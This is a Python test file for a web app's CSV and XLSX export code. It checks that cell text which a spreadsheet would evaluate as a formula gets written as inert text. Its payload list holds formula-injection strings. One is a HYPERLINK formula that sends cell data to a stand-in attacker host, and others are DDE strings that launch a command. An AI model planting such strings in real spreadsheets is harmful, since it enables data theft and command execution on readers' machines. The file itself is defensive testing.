"""No export carries a live formula: text that a spreadsheet would evaluate is written inert."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from engine.cases.start import StartRequest, start_process
from tests.integration.support import PUBLIC_PROCESS, client_of
from web.spreadsheets import csv_bytes, inert, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"بیشتر")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_inert_in_both_formats(payload):
    rows = [[payload, 42, -7, "متن عادی"]]
    (line,) = list(csv.reader(io.StringIO(csv_bytes(["a", "b", "c", "d"], rows).decode("utf-8-sig"))))[1:]
    assert line[0] == "'" + payload and line[3] == "متن عادی"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["a", "b", "c", "d"], rows, "t", rtl=True))).active
    cells = [c for c in sheet[2]]
    assert cells[0].data_type == "s" and cells[0].value == "'" + payload
    assert cells[1].value == 42 and cells[2].value == -7  # numbers stay numbers
    assert inert("عادی") == "عادی"


def test_a_case_titled_with_a_formula_exports_inert(app):
    ctx = app.extensions["ravand"]
    title = PAYLOADS[0]
    data = {"full_name": "مینا", "phone": "09121234567", "topic": "urban", "description": "x" * 20}
    start_process(ctx, StartRequest(PUBLIC_PROCESS, data=data, title=title, user="admin", on_behalf=True))
    client = client_of(app, "deputy")
    body = client.get("/monitor/instances/export.csv").get_data(as_text=True).lstrip("\ufeff")
    titles = [row[3] for row in csv.reader(io.StringIO(body))]
    assert "'" + title in titles and title not in titles
    sheet = load_workbook(io.BytesIO(client.get("/monitor/instances/export.xlsx").data)).active
    column = [c.value for c in sheet["D"]]
    assert "'" + title in column
    assert not any(
        isinstance(v, str) and v.startswith("=") for row in sheet.iter_rows() for v in (c.value for c in row)
    )
